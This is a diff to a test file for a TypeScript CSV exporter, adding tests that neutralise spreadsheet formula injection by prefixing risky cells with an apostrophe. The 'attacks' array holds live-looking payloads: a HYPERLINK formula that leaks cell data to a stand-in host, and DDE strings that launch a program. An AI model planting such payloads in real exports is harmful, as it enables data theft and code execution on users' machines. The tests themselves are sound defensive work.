@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { OptionError } from '../../lib/errors';
-import { toCsv } from '../../lib/result/csv';
+import { csvField, toCsv } from '../../lib/result/csv';
 import { QueryResult } from '../../lib/result/query-result';
 import { makeData } from './fixtures';
 
@@ -114,8 +114,52 @@ describe('toCsv', () => {
       ],
       tricky.map((t) => [t, null]),
     );
-    const parsed = parseCsv(toCsv(data));
-    expect(parsed.slice(1)).toEqual(tricky.map((t) => [t, null]));
+    // With keepFormulas, every value comes back exactly; by default, formula-like ones gain a '.
+    expect(parseCsv(toCsv(data, { keepFormulas: true })).slice(1)).toEqual(tricky.map((t) => [t, null]));
+    const formula = (t: string) => ['=', '+', '-', '@', '\t', '\r'].includes(t.charAt(0));
+    expect(parseCsv(toCsv(data)).slice(1)).toEqual(tricky.map((t) => [formula(t) ? `'${t}` : t, null]));
+  });
+
+  it("neutralises text a spreadsheet would run as a formula (OWASP: ' in front)", () => {
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '+cmd|\' /C calc\'!A0',
+      '-2+3+cmd|\' /C calc\'!A0',
+      '@SUM(1+9)*cmd|\' /C calc\'!A0',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const harmless = ['user=alice', 'a+b', 'x-y', 'alice@example.com', ' =1', "'=1", ''];
+    const data = makeData([['v', 'string']], [...attacks, ...harmless].map((v) => [v]));
+    const fields = parseCsv(toCsv(data, { header: false })).map(([v]) => v);
+    // Computed independently: the rule applied to each input, then compared with what came back.
+    expect(fields).toEqual([...attacks.map((a) => `'${a}`), ...harmless]);
+    for (const f of fields.slice(0, attacks.length)) expect(f?.charAt(0)).toBe("'");
+    // The header is text too.
+    expect(toCsv(makeData([['=cmd', 'string']], []))).toBe("'=cmd\r\n");
+  });
+
+  it('leaves numbers alone, in numeric columns whatever their sign', () => {
+    const data = makeData(
+      [
+        ['n', 'bigint'],
+        ['d', 'double'],
+        ['price', 'decimal'],
+        ['s', 'string'],
+      ],
+      [[-5n, -1.5, '-12.30', '-12.30']],
+    );
+    expect(toCsv(data, { header: false })).toBe("-5,-1.5,-12.30,'-12.30\r\n");
+  });
+
+  it('exports the field writer for other CSV writers, with the same rules', () => {
+    expect(csvField('=1+1', 'string')).toBe("'=1+1");
+    expect(csvField('=1+1', 'string', { keepFormulas: true })).toBe('=1+1');
+    expect(csvField('a;=b', 'string', ';')).toBe('"a;=b"');
+    expect(csvField('=a;b', 'string', { delimiter: ';' })).toBe('"\'=a;b"');
+    expect(csvField('@x', 'json')).toBe("'@x");
+    expect(csvField(null, 'string')).toBe('');
+    expect(csvField(-3, 'integer')).toBe('-3');
   });
 
   it('writes bigints exactly, Dates as ISO, numbers and booleans as text', () => {
@@ -172,6 +216,7 @@ describe('toCsv', () => {
       [{ delimiter: ',,' }, 'delimiter'],
       [{ newline: '\r' }, 'newline'],
       [{ header: 'yes' }, 'header'],
+      [{ keepFormulas: 'no' }, 'keepFormulas'],
     ];
     for (const [options, name] of bad) {
       expect(() => toCsv(data, options as never)).toThrow(OptionError);
